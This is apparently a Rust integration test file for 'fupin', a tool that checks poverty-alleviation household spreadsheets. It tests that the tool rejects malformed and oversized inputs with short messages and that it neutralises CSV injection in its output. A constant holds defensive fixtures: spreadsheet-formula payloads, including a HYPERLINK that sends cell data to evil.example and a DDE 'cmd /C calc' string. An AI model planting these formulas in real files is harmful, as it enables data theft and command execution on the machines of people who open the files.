//! Bad input: a clear error (exit 2, nothing written) or a problem, never a panic.

use crate::{fixtures, fupin, read_csv, text};
use std::path::Path;

fn bad(name: &str) -> String {
    fixtures()
        .join("golden/bad")
        .join(name)
        .display()
        .to_string()
}

/// Assess a file; returns (exit code, stderr, output folder).
fn assess(members: &str, dir: &Path) -> (Option<i32>, String, std::path::PathBuf) {
    let out = dir.join("out");
    let o = fupin(&[
        "assess",
        members,
        "--year",
        "2018",
        "--line",
        "3535",
        "--out",
        out.to_str().unwrap(),
    ]);
    let stderr = text(&o.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    (o.status.code(), stderr, out)
}

/// A file-level error: exit 2, a message naming the file, and no output file at all.
fn rejected(name: &str, expect: &[&str]) {
    let tmp = tempfile::tempdir().unwrap();
    let (code, stderr, out) = assess(&bad(name), tmp.path());
    assert_eq!(code, Some(2), "{name}: {stderr}");
    assert!(
        stderr.contains(name),
        "{name}: message does not name the file: {stderr}"
    );
    for e in expect {
        assert!(stderr.contains(e), "{name}: expected «{e}» in: {stderr}");
    }
    let written: Vec<_> = std::fs::read_dir(&out)
        .map(|d| d.flatten().collect())
        .unwrap_or_default();
    assert!(written.is_empty(), "{name}: files written: {written:?}");
}

#[test]
fn empty_file_is_rejected() {
    rejected("empty.csv", &["为空"]);
}

#[test]
fn header_only_is_rejected() {
    rejected("header_only.csv", &["没有数据行"]);
}

#[test]
fn missing_columns_are_e101_each_named() {
    rejected("missing_columns.csv", &["E101", "证件号码", "饮水安全"]);
}

#[test]
fn binary_garbage_is_rejected() {
    rejected("garbage.bin", &["不是文本表格"]);
}

#[test]
fn invalid_gbk_bytes_name_their_line() {
    rejected("invalid_gbk.csv", &["第4行", "GBK"]);
}

#[test]
fn truncated_row_is_a_problem_on_its_line() {
    let tmp = tempfile::tempdir().unwrap();
    let (code, stderr, out) = assess(&bad("truncated_row.csv"), tmp.path());
    assert_eq!(code, Some(0), "{stderr}");
    let problems = read_csv(&out.join("problems.csv"));
    let last_line = problems[1..]
        .iter()
        .map(|r| r[1].parse::<u64>().unwrap())
        .max()
        .unwrap();
    assert!(
        problems[1..]
            .iter()
            .any(|r| r[1].parse::<u64>().unwrap() == last_line
                && r[3] == "E102"
                && r[4].contains("截断")),
        "{problems:?}"
    );
}

#[test]
fn id_number_stored_as_number_in_xlsx_is_e105() {
    let tmp = tempfile::tempdir().unwrap();
    let (code, stderr, out) = assess(&bad("id_as_number.xlsx"), tmp.path());
    assert_eq!(code, Some(0), "{stderr}");
    let problems = read_csv(&out.join("problems.csv"));
    assert!(
        problems[1..]
            .iter()
            .any(|r| r[3] == "E105" && r[2] == "证件号码" && r[4].contains("数值格式")),
        "{problems:?}"
    );
}

#[test]
fn a_ten_thousand_character_cell_is_refused_naming_it() {
    // A name of 10,000 characters is over the members file's 500 (issue 20): refused
    // with its line, column, first characters and length; nothing is written.
    let tmp = tempfile::tempdir().unwrap();
    let (code, stderr, out) = assess(&bad("long_cell.csv"), tmp.path());
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains("第2行「姓名」列（D列）：单元格有 10,000 个字符，超过上限 500 个字符"),
        "{stderr}"
    );
    assert!(stderr.contains("…（共 10,000 字符）"), "{stderr}");
    assert!(stderr.chars().count() < 400, "{stderr}");
    assert!(!out.join("households.jsonl").exists());
}

#[test]
fn missing_file_is_rejected_with_its_name() {
    let tmp = tempfile::tempdir().unwrap();
    let (code, stderr, _) = assess("/nonexistent/members.csv", tmp.path());
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.contains("/nonexistent/members.csv"), "{stderr}");
}

#[test]
fn unknown_year_without_line_says_how_to_set_one() {
    let o = fupin(&[
        "assess",
        &bad("long_cell.csv"),
        "--year",
        "1999",
        "--out",
        "/tmp/never",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o.stderr).contains("--line"), "{}", text(&o.stderr));
}

/// The probe's formula-like values (issue 20, item 4).
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "\tTAB",
    "\rCR",
];

/// Whether a cell would be taken for a formula by a spreadsheet (OWASP's list).
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A plain decimal number, as fupin writes counts and amounts.
fn plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
}

/// Policy: OWASP CSV injection — text cells starting with = + - @ tab or CR get a leading
/// `'` in every CSV `fupin assess` writes; numeric columns keep their numbers (a negative
/// 人均纯收入 stays `-…`).
#[test]
fn formula_like_text_is_neutralised_in_every_output_csv() {
    let tmp = tempfile::tempdir().unwrap();
    let members = tmp.path().join("members.csv");
    let mut w = csv::Writer::from_path(&members).unwrap();
    let header = "户编号,乡镇,行政村,姓名,证件号码,与户主关系,性别,在校生状况,健康状况,劳动技能,是否参加基本医疗保险,是否现役军人,脱贫属性,贫困户属性,主要致贫原因,工资性收入,生产经营性收入,生产经营性支出,财产性收入,转移性收入,人均纯收入,不愁吃,不愁穿,住房安全等级,危房改造状态,易地扶贫搬迁,饮水安全,备注";
    w.write_record(header.split(',')).unwrap();
    // Each value as a 户编号, a township, a village and a name; then a household without
    // errors that spends more than it earns, so its 人均纯收入 is negative.
    let sound = [
        "1409300101001",
        "示例一乡",
        "示例一乡甲村",
        "测试户主01",
        "14093019750312011X",
    ];
    for (i, f) in FORMULAS.iter().chain(&[""]).enumerate() {
        let id_number = format!("2409301975031201{i}X");
        let (ids, expense) = match *f {
            "" => (sound.map(String::from), "50000"),
            f => ([f, f, f, f, &id_number].map(String::from), "1000"),
        };
        let mut row: Vec<&str> = ids.iter().map(String::as_str).collect();
        // As 性别 too: an E103 problem echoes the value.
        let sex = if f.is_empty() { "男" } else { f };
        row.extend([
            "户主",
            sex,
            "非在校生",
            "健康",
            "普通劳动力",
            "是",
            "否",
            "未脱贫",
            "一般贫困户",
            "缺技术",
            "9000",
            "3000",
            expense,
            "200",
            "800",
            "",
            "是",
            "是",
            "A",
            "无",
            "否",
            "是",
            f,
        ]);
        w.write_record(row).unwrap();
    }
    w.flush().unwrap();
    drop(w);
    let (code, stderr, out) = assess(members.to_str().unwrap(), tmp.path());
    assert_eq!(code, Some(0), "{stderr}");

    // (file, columns that hold numbers fupin formats)
    let files: [(&str, &[&str]); 3] = [
        ("households.csv", &["人数", "人均纯收入", "标准"]),
        ("villages.csv", &[]),
        ("problems.csv", &["行号"]),
    ];
    let mut negative_amounts = 0;
    for (name, numeric) in files {
        let rows = read_csv(&out.join(name));
        let header = rows[0].clone();
        for row in &rows[1..] {
            for (col, cell) in header.iter().zip(row) {
                if numeric.contains(&col.as_str()) || (name == "villages.csv" && plain_number(cell))
                {
                    if cell.starts_with('-') {
                        assert!(plain_number(cell), "{name} {col}: {cell:?}");
                        negative_amounts += 1;
                    }
                    continue;
                }
                assert!(
                    !formula_like(cell),
                    "{name} {col}: {cell:?} is not neutralised"
                );
            }
        }
    }
    assert!(
        negative_amounts >= 1,
        "the negative 人均纯收入 is kept as a number"
    );

    let households = read_csv(&out.join("households.csv"));
    let problems = read_csv(&out.join("problems.csv"));
    let villages = read_csv(&out.join("villages.csv"));
    // The reader trims a leading tab or CR from a cell (the unit test of `text_cell` has
    // them); the others arrive whole and leave with a `'`.
    for f in &FORMULAS[..4] {
        let quoted = format!("'{f}");
        assert!(
            households[1..]
                .iter()
                .any(|r| r[0] == quoted && r[1] == quoted),
            "households.csv has no {quoted:?}: {households:?}"
        );
        assert!(
            villages[1..]
                .iter()
                .any(|r| r[0] == quoted && r[1] == quoted),
            "villages.csv has no {quoted:?}"
        );
    }
    // Raw values echoed in problems.csv (the bad 性别) are text too.
    assert!(
        problems[1..]
            .iter()
            .any(|r| r[5] == format!("'{}", FORMULAS[0])),
        "{problems:?}"
    );
}

/// The most a `fupin check` of a hostile file may hold resident. The probe's files made it
/// peak at 3,573 MB; refused before they are read, they leave it near its start.
const HOSTILE_RSS_MB: i64 = 300;

/// Run fupin with `args` to its end; (exit code, stdout, stderr, its peak resident memory
/// in MB). The peak is the kernel's VmHWM of the child's own memory, read from
/// /proc/PID/status every millisecond while it runs (the high-water mark only grows, and
/// growing by hundreds of megabytes takes far longer than a millisecond). wait4's
/// ru_maxrss is no use here: a child spawned by vfork carries the test process's own
/// peak into it.
fn fupin_measured(args: &[&str], dir: &Path) -> (i32, String, String, i64) {
    let (out, err) = (dir.join("stdout"), dir.join("stderr"));
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_fupin"))
        .args(args)
        .stdout(std::fs::File::create(&out).unwrap())
        .stderr(std::fs::File::create(&err).unwrap())
        .spawn()
        .unwrap();
    let status_file = format!("/proc/{}/status", child.id());
    let mut peak_kb = 0i64;
    let status = loop {
        if let Ok(text) = std::fs::read_to_string(&status_file) {
            let hwm = text
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok());
            peak_kb = peak_kb.max(hwm.unwrap_or(0));
        }
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    };
    let read = |p: &Path| String::from_utf8_lossy(&std::fs::read(p).unwrap()).into_owned();
    let code = status.code().expect("fupin exited");
    (code, read(&out), read(&err), peak_kb / 1024)
}

#[test]
fn check_refuses_hostile_files_with_bounded_memory_and_short_messages() {
    use fupin_test_support::hostile;
    let dir = tempfile::tempdir().unwrap();
    // The probe's shape: an XLSX of a few rows and 300 MB of spaces (it had 1.5 GB).
    let padded = hostile::padded_xlsx(dir.path(), 5, 300 << 20);
    // A 200 MB name on the first data row, on one line; and 200 MB without any line end.
    let name = hostile::huge_name_csv(dir.path(), 200 << 20);
    let line = hostile::single_line_csv(dir.path(), 200 << 20);
    let cases: [(&Path, &[&str]); 3] = [
        (&padded, &["倍", "上限 200 倍"]),
        (
            &name,
            &["第2行「姓名」列（D列）", "超过 500 个字符", "仍未结束"],
        ),
        (&line, &["第1行超过1 MB"]),
    ];
    for (file, expected) in cases {
        let path = file.display().to_string();
        let (code, stdout, stderr, rss) =
            fupin_measured(&["check", &path, "--year", "2018"], dir.path());
        assert_eq!(code, 2, "{path}: {stdout} {stderr}");
        for e in expected {
            assert!(stderr.contains(e), "{path}: {stderr}");
        }
        // Nothing echoed whole: a short message, no data on stdout.
        assert!(stderr.len() < 2_000, "{path}: {} bytes", stderr.len());
        assert!(stdout.is_empty(), "{path}: {} bytes", stdout.len());
        assert!(
            rss < HOSTILE_RSS_MB,
            "{path}: peak {rss} MB, bound {HOSTILE_RSS_MB} MB"
        );
    }
}
